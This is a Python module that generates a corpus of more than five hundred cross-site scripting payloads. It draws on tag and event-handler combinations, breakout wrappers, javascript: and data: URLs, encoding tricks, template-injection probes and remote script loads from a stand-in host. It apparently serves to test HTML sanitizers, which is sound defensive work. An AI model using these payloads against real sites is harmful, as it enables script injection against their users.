"""Five hundred ways to smuggle a program or a dangerous address into a page: tags, handlers, addresses, encodings."""

TAGS = ("img src=x", "svg", "body", "iframe", "video src=x", "details open", "input autofocus", "a href=x", "marquee",
        "math", "audio src=x", "object data=x", "form", "select autofocus", "div style=x")  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
WRAPPERS = ("{}", '"><{}', "'><{}", "</textarea>{}", "</title>{}", "<!--{}-->")
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "http://x.example.com/\"onmouseover=alert(1)", "https://x.example.com/'onclick='alert(1)",
    "https://x.example.com/<script>alert(1)</script>", "https://[::1", "https://user:pass@x.example.com/\"><img src=x>",
    "https://x.example.com/`onerror=alert(1)`", "//x.example.com/x.js", "https://x.example.com/&quot;onload=alert(1)",
    "https://x.example.com/%22onload=alert(1)", "https://x.example.com/\u2028onload=alert(1)",
    "https:javascript:alert(1)",
)  # fmt: skip
WHOLE = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example.com/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "{{ 7|add:7 }}{% now 'Y' %}", "${7*7}#{7*7}", "<base href=//x.example.com/>", "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//x.example.com/x.css>", "<style>@import '//x.example.com'</style>", "&lt;script&gt;",
    "\"'><script>alert(String.fromCharCode(88))</script>", "＜script＞alert(1)＜/script＞", "\u202e<script>",
    "]]><script>",
    "<svg><script>alert&#40;1&#41;</script>", "<xmp><p title='</xmp><svg/onload=alert(1)>'>", "<noscript><p title='x'>",
    "<template><script>alert(1)</script></template>", "<form action=javascript:alert(1)><button>x", "<a href=#>x</a>",
)  # fmt: skip


def payloads() -> list[str]:
    """Each one once, five hundred and more."""
    made = [f"<{tag} {handler}=alert({number})>" for number, (tag, handler) in
            enumerate((tag, handler) for tag in TAGS for handler in HANDLERS)]  # fmt: skip
    wrapped = [wrapper.format(each if wrapper[-3:] != "<{}" else each[1:]) for wrapper in WRAPPERS for each in made]
    return list(dict.fromkeys([*wrapped, *ADDRESSES, *(f"see {each} there" for each in ADDRESSES), *WHOLE]))
